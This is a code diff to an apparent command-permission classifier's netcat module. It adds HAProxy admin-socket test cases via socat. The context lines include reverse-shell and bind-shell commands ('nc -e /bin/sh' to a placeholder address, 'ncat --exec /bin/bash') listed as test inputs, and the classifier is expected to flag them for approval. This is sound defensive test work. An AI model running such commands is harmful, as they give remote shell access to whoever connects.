@@ -1,4 +1,5 @@
 /** netcat: what it carries is read by the core; a program put behind a connection is a shell for whoever connects. */
+import { effectsOnControlSocket } from "../core/effects/control-sockets.ts";
 import type { Effect } from "../core/effects/effect.ts";
 import { optionValues, readArguments } from "../core/effects/options.ts";
 import type { Inner, Invocation, ProgramPack, Reading } from "../core/effects/pack.ts";
@@ -19,6 +20,8 @@ export const netcat: ProgramPack = {
     { run: "nc -zv localhost 5432", expect: "allow" },
     { run: "nc -l 8080", expect: "allow" },
     { run: "echo ping | nc -w 1 localhost 6379", expect: "allow" },
+    { run: "echo 'disable server web/a' | socat stdio /run/haproxy/admin.sock", expect: "ask" },
+    { run: "echo 'show servers state' | socat stdio /run/haproxy/admin.sock", expect: "allow" },
     { run: "nc -e /bin/sh 203.0.113.7 4444", expect: "ask" },
     { run: "ncat --exec '/bin/bash' -l 4444", expect: "ask" },
     { run: "nc 203.0.113.7 4444 -c bash", expect: "ask" },
